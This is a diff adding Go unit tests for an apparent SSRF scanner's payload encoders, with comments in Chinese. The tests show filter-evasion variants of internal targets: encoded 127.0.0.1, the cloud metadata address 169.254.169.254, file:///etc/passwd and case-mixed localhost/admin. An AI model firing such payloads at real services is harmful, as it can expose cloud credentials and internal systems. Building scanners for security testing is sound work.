@@ -0,0 +1,51 @@
+package payloads
+
+import (
+	"reflect"
+	"testing"
+)
+
+func TestEncode(t *testing.T) {
+	tests := []struct {
+		value   string
+		encoder string
+		want    string
+	}{
+		{"http://127.0.0.1/", EncoderURL, "http://%31%32%37%2E%30%2E%30%2E%31/"},
+		{"http://127.0.0.1:6379/info", EncoderURL, "http://%31%32%37%2E%30%2E%30%2E%31:%36%33%37%39/%69%6E%66%6F"},
+		{"http://127.0.0.1/", EncoderDoubleURL, "http://%2531%2532%2537%252E%2530%252E%2530%252E%2531/"},
+		{"http://169.254.169.254/latest/meta-data/", EncoderUnicode, "http://169%c0%ae254%c0%ae169%c0%ae254/latest%c0%afmeta-data%c0%af"},
+		{"file:///etc/passwd", EncoderUnicode, "file:///etc%c0%afpasswd"},
+		{"http://localhost/admin", EncoderCase, "HtTp://LoCaLhOsT/admin"},
+		{"http://user@localhost/", EncoderCase, "HtTp://user@LoCaLhOsT/"},
+		{"http://127.0.0.1/", "unknown", "http://127.0.0.1/"},
+	}
+
+	for _, tt := range tests {
+		if got := Encode(tt.value, tt.encoder); got != tt.want {
+			t.Errorf("Encode(%q, %s) = %q, want %q", tt.value, tt.encoder, got, tt.want)
+		}
+	}
+}
+
+func TestEachVariant(t *testing.T) {
+	var got []string
+	collect := func(p Payload) bool {
+		got = append(got, p.Value)
+		return true
+	}
+
+	// 原始payload最先发送，与原始payload相同的变种（无字母时的 case）被跳过
+	EachVariant(Payload{Value: "dict://127.0.0.1/"}, []string{EncoderCase, EncoderUnicode}, collect)
+	want := []string{"dict://127.0.0.1/", "DiCt://127.0.0.1/", "dict://127%c0%ae0%c0%ae0%c0%ae1/"}
+	if !reflect.DeepEqual(got, want) {
+		t.Errorf("EachVariant = %v, want %v", got, want)
+	}
+
+	// 包含 {{OOB}} 的payload不生成变种
+	got = nil
+	EachVariant(Payload{Value: "{{OOB}}/x"}, Encoders, collect)
+	if !reflect.DeepEqual(got, []string{"{{OOB}}/x"}) {
+		t.Errorf("OOB payload 变种 = %v", got)
+	}
+}